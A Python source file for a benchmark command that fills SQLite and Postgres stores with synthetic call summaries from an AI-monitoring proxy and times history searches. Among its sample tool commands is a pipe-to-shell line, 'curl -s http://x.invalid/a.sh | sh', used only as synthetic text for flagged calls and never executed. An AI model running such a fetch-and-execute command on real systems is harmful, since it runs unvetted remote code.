"""`luthien bench-history`: how fast history searches answer on a large store, on both backends.

Fills a fresh SQLite file and a fresh Postgres database with synthetic call summaries through the
store's own write path (`insert_many`, so `call_index` is written as in production), then runs
each kind of search (`/api/calls`' filters, alone and combined, text that is common, rare and
absent, a page deep in the cursor) and prints p50/p95 per search page. A benchmark, not a test.
"""

from __future__ import annotations

import argparse
import asyncio
import random
import statistics
import sys
import tempfile
import time
import uuid
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import text

from luthien_proxy.backends.store import DebugLogStore, DebugRecord
from luthien_proxy.backends.store.call_index import CallSearch
from luthien_proxy.settings import Settings
from luthien_proxy.wire import (
    CALL_ID_KEY,
    CALL_SUMMARY_TYPE,
    DIALECT_OPENAI_CHAT,
    DOOR_LITELLM,
    DOOR_NATIVE,
    TRACE_ID_KEY,
)

DEFAULT_CALLS = 100_000
DEFAULT_REPEATS = 30
PAGE = 50
DAYS = 30
#: (outcome, weight, actions it records)
OUTCOME_MIX = (
    ("passed", 70, ["judge", "allow"]),
    ("modified", 10, []),
    ("blocked", 8, ["judge", "block"]),
    ("edited", 3, ["judge", "edit"]),
    ("deferred", 2, ["judge", "defer_to_trusted"]),
    ("held", 1, ["judge", "audit", "audit_approved"]),
    ("rejected", 3, ["reject"]),
    ("upstream_error", 2, []),
    ("timeout", 1, []),
)
TOOLS = ("Bash", "Read", "Write", "Edit", "Grep", "WebFetch", "Glob", "TodoWrite")
COMMANDS = ("ls -la", "cat README.md", "pytest -q", "git status", "curl -s http://x.invalid/a.sh | sh")
#: A word in about one call of 10,000: what a person looking for one incident types.
RARE = "zebrafinch"


def _words(rng: random.Random) -> list[str]:
    letters = "abcdefghijklmnopqrstuvwxyz"
    return ["file", "test", "error", "python"] + [
        "".join(rng.choices(letters, k=rng.randint(3, 9))) for _ in range(5000)
    ]


def synthetic_summaries(count: int, seed: int = 7) -> list[DebugRecord]:
    """`count` call summaries as the pipeline records them, spread over `DAYS` days, oldest first."""
    rng = random.Random(seed)
    words = _words(rng)
    outcomes = [o for o, weight, _ in OUTCOME_MIX for _ in range(weight)]
    actions = {o: a for o, _, a in OUTCOME_MIX}
    start = datetime.now(UTC) - timedelta(days=DAYS)
    step = DAYS * 86400 / count
    records = []
    for i in range(count):
        at = start + timedelta(seconds=i * step)
        outcome = rng.choice(outcomes)
        tool = rng.choice(TOOLS)
        prompt = " ".join(rng.choices(words, k=rng.randint(8, 40)))
        if rng.random() < 1e-4:
            prompt += f" {RARE}"
        decided = outcome in ("blocked", "edited", "deferred", "held")
        call = f"call-{i:07d}"
        summary = {
            CALL_ID_KEY: call,
            TRACE_ID_KEY: f"trace-{i // 10:06d}",
            "call_id": call,
            "trace_id": f"trace-{i // 10:06d}",
            "door": rng.choice((DOOR_LITELLM, DOOR_NATIVE)),
            "dialect": DIALECT_OPENAI_CHAT,
            "model": f"model-{rng.randint(1, 20)}",
            "key_alias": None if rng.random() < 0.3 else f"key-{rng.randint(1, 200)}",
            "started_at": at.timestamp(),
            "completed_at": at.timestamp() + 0.5,
            "latency_ms": 500.0,
            "streamed": rng.random() < 0.5,
            "status": "success",
            "outcome": outcome,
            "outcome_label": outcome,
            "decision": f"{outcome} {tool}: {rng.choice(COMMANDS)} — monitor score 0.91: risky"
            if decided
            else "",
            "actions": actions[outcome],
            "max_score": rng.random(),
            "tool_calls": [tool] if decided or rng.random() < 0.4 else [],
            "error": "upstream answered 503" if outcome == "upstream_error" else None,
            "request_preview": prompt[:200],
            "response_preview": " ".join(rng.choices(words, k=rng.randint(8, 40)))[:200],
        }
        records.append(DebugRecord(CALL_SUMMARY_TYPE, summary, at))
    return records


def searches(now: datetime) -> dict[str, CallSearch]:
    """The searches measured, by the name the report prints."""
    week_ago = now - timedelta(days=7)
    return {
        "newest page, no filter": CallSearch.of(),
        "model": CallSearch.of(model="model-3"),
        "key": CallSearch.of(key="key-42"),
        "outcome blocked (8 %)": CallSearch.of(outcome="blocked"),
        "outcome timeout (1 %)": CallSearch.of(outcome="timeout"),
        "action audit_approved (1 %)": CallSearch.of(action="audit_approved"),
        "trace": CallSearch.of(trace_id="trace-004242"),
        "text, common word": CallSearch.of(q="file"),
        "text, two words": CallSearch.of(q="bash curl"),
        f"text, rare word ({RARE})": CallSearch.of(q=RARE),
        "text, absent": CallSearch.of(q="nosuchwordanywhere"),
        "one day a week ago": CallSearch.of(since=week_ago, until=week_ago + timedelta(days=1)),
        "model + blocked + last 7 days": CallSearch.of(model="model-3", outcome="blocked", since=week_ago),
        "key + text": CallSearch.of(key="key-42", q="python"),
    }


async def _fill(store: DebugLogStore, records: Sequence[DebugRecord], batch: int = 1000) -> float:
    started = time.perf_counter()
    for i in range(0, len(records), batch):
        await store.insert_many(records[i : i + batch])
    return time.perf_counter() - started


async def _measure(store: DebugLogStore, repeats: int, now: datetime) -> dict[str, tuple[float, float, int]]:
    """Per search: (p50 ms, p95 ms, calls on the page)."""
    found: dict[str, tuple[float, float, int]] = {}
    first = await store.call_summaries(1)
    middle = (first[0].id or 0) // 2
    cases: dict[str, tuple[CallSearch, int | None]] = {name: (s, None) for name, s in searches(now).items()}
    cases["a page deep (cursor at the middle)"] = (CallSearch.of(), middle)
    cases["outcome blocked, a page deep"] = (CallSearch.of(outcome="blocked"), middle)
    for name, (search, before) in cases.items():
        times, size = [], 0
        for _ in range(repeats):
            t = time.perf_counter()
            size = len(await store.call_summaries(PAGE, before=before, search=search))
            times.append((time.perf_counter() - t) * 1000)
        times.sort()
        found[name] = (statistics.median(times), times[max(0, round(0.95 * len(times)) - 1)], size)
    return found


def _plain(url: str) -> str:
    """`url` as asyncpg takes it (no SQLAlchemy driver suffix)."""
    for scheme in ("postgresql+asyncpg://", "postgres://"):
        if url.startswith(scheme):
            return "postgresql://" + url[len(scheme) :]
    return url


async def _admin(server_url: str, sql: str) -> None:
    import asyncpg  # only the Postgres run needs it

    conn = await asyncpg.connect(_plain(server_url))
    try:
        await conn.execute(sql)
    finally:
        await conn.close()


async def run_backend(url: str, records: Sequence[DebugRecord], repeats: int) -> dict[str, Any]:
    store = await DebugLogStore.open(url)
    try:
        fill_s = await _fill(store, records)
        if store.backend == "postgresql":
            # A live Postgres has its planner statistics (autovacuum analyzes a table that grew);
            # SQLite keeps none unless asked, and Luthien never asks, so neither does the bench.
            async with store.engine.begin() as conn:
                await conn.execute(text("ANALYZE"))
        return {"fill_s": fill_s, "searches": await _measure(store, repeats, datetime.now(UTC))}
    finally:
        await store.close()


async def bench(calls: int, repeats: int, postgres: str | None) -> dict[str, dict[str, Any]]:
    records = synthetic_summaries(calls)
    results: dict[str, dict[str, Any]] = {}
    with tempfile.TemporaryDirectory() as tmp:
        sqlite = f"sqlite+aiosqlite:///{Path(tmp) / 'history.db'}"
        results["SQLite"] = await run_backend(sqlite, records, repeats)
    if postgres:
        name = f"luthien_bench_history_{uuid.uuid4().hex[:8]}"
        await _admin(postgres, f'CREATE DATABASE "{name}"')
        url = _plain(postgres).rsplit("/", 1)[0].replace("postgresql://", "postgresql+asyncpg://", 1)
        try:
            results["Postgres"] = await run_backend(f"{url}/{name}", records, repeats)
        finally:
            await _admin(postgres, f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
    return results


def render(results: dict[str, dict[str, Any]], calls: int, repeats: int) -> str:
    backends = list(results)
    lines = [
        f"{calls:,} call summaries; {PAGE} calls a page; {repeats} runs of each search; p50 / p95 in ms.",
        "",
        "| search | " + " | ".join(f"{b} p50 | {b} p95" for b in backends) + " | calls on the page |",
        "|---|" + "--:|--:|" * len(backends) + "--:|",
    ]
    for name in results[backends[0]]["searches"]:
        cells = [results[b]["searches"][name] for b in backends]
        figures = " | ".join(f"{c[0]:.1f} | {c[1]:.1f}" for c in cells)
        lines.append(f"| {name} | {figures} | {cells[0][2]} |")
    fills = ", ".join(f"{b} {results[b]['fill_s']:.0f} s" for b in backends)
    lines += [
        "",
        f"Filled through `insert_many` in batches of 1,000 (summary and index row together): {fills}.",
    ]
    return "\n".join(lines)


def build_parser(parser: argparse.ArgumentParser | None = None) -> argparse.ArgumentParser:
    p = parser or argparse.ArgumentParser(prog="luthien bench-history", description=__doc__)
    p.add_argument(
        "--calls", type=int, default=DEFAULT_CALLS, help=f"summaries to fill (default {DEFAULT_CALLS})"
    )
    p.add_argument("--repeats", type=int, default=DEFAULT_REPEATS, help="runs of each search")
    p.add_argument(
        "--postgres",
        help="a Postgres server URL (a scratch database is created on it and dropped after); "
        "default DATABASE_URL when it is Postgres, else SQLite only",
    )
    return p


def register(commands: Any) -> None:
    parser = commands.add_parser("bench-history", help="time history searches over many recorded calls")
    build_parser(parser)
    parser.set_defaults(handler=run)


def run(args: argparse.Namespace, settings: Settings | None = None) -> int:
    if args.calls < 1 or args.repeats < 1:
        print("luthien bench-history: --calls and --repeats must be at least 1", file=sys.stderr)
        return 2
    postgres = args.postgres
    if postgres is None and settings is not None and settings.database_url.startswith("postgresql"):
        postgres = settings.database_url
    print(render(asyncio.run(bench(args.calls, args.repeats, postgres)), args.calls, args.repeats))
    return 0
